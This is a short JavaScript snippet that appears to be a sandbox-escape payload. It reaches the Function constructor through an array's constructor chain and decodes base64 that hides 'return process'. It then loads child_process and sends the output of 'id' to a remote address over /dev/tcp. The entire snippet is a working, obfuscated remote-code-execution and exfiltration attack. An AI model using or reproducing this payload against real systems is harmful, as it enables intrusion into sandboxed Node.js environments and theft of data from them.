1// Function constructor reached through an array literal's constructor chain.
const F = [].constructor.constructor;
F(Buffer.from('cmV0dXJuIHByb2Nlc3M=', 'base64').toString())().mainModule.require('child_process').execSync('id > /dev/tcp/198.51.100.4/80');
